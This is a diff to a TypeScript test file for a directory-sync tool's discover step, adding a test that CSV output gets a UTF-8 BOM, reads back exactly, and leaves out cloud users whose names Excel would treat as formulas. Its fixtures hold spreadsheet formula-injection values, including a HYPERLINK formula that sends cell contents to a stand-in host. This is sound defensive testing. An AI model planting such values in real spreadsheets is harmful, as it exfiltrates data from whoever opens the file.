@@ -1,7 +1,9 @@
 // discover's I/O: one read of the tenant's users serves both the pairing and plan's checks, and a custom source
 // anchor attribute is read on every AD account (and checked to be an attribute name first).
 import { expect } from 'chai';
+import { parseBatch } from '../../../lib/batch/read.js';
 import { parseConfig } from '../../../lib/config.js';
+import { discoverCsvLines } from '../../../lib/discover/output.js';
 import { collectFacts } from '../../../lib/workflow/collector.js';
 import { discover } from '../../../lib/workflow/discover.js';
 import { NO_MATCH } from '../../../lib/discover/pair.js';
@@ -106,6 +108,38 @@ describe('workflow: discover', () => {
     expect(rows['ben@contoso.com']).to.include({ status: 'left-out', proposal: null });
     expect(rows['ben@contoso.com']!.reason).to.contain(NO_MATCH);
     expect(report.counts).to.include({ adRead: 3, adInScope: 1, adOutOfSyncScope: 2 });
+  });
+
+  it('writes the batch for Excel (UTF-8 BOM) and plan reads it back exactly; a cloud name Excel would run as a formula gets no new account', async () => {
+    const io = new FakeIO({
+      'sync-facts': syncFacts('objectGUID'),
+      'discover-ad': () => ({ forest, writeDomain: 'contoso.local', users: [makeAdUser('anna', { UserPrincipalName: 'anna@contoso.com' })] }),
+      'discover-cloud': () => ({
+        users: [
+          makeCloudUser('anna@contoso.com'),
+          makeCloudUser('new.person@contoso.com', { id: 'c-new', givenName: 'New', surname: 'Person' }),
+          makeCloudUser('mallory@contoso.com', { id: 'c-m', givenName: '=HYPERLINK("http://x.example/?"&A1,"open")', surname: 'Smith' }),
+          makeCloudUser('tab@contoso.com', { id: 'c-t', givenName: 'Tab', surname: '\t+1' }),
+        ],
+        others: [],
+        counts: { read: 4, guests: 0, synced: 0, anchored: 0, filteredOut: 0 },
+      }),
+      'cloud-facts': () => ({ cloudUsers: [], cloudObjects: [], scanned: { groups: 0, contacts: 0, deletedUsers: 0 } }),
+      'tenant-facts': world().answers['tenant-facts']!,
+    });
+    const report = await discover(deps(io), { config, enableFeature: false, ou: CORP_OU });
+    const rows = Object.fromEntries(report.rows.map((r) => [r.cloudUpn, r]));
+    expect(rows['new.person@contoso.com']).to.include({ status: 'create' });
+    for (const upn of ['mallory@contoso.com', 'tab@contoso.com']) {
+      expect(rows[upn]).to.include({ status: 'left-out', proposal: null });
+      expect(rows[upn]!.reason).to.match(/formula/);
+    }
+    const text = [...discoverCsvLines(report)].join('');
+    expect(text.startsWith('\uFEFF')).to.equal(true);
+    expect(text).to.not.match(/HYPERLINK/);
+    const proposals = report.rows.flatMap((r) => (r.proposal ? [r.proposal] : []));
+    expect(proposals).to.have.length(2);
+    expect(parseBatch(text).users).to.deep.equal(proposals);
   });
 
   it('refuses an anchor attribute that is not an LDAP attribute name before any AD read', async () => {
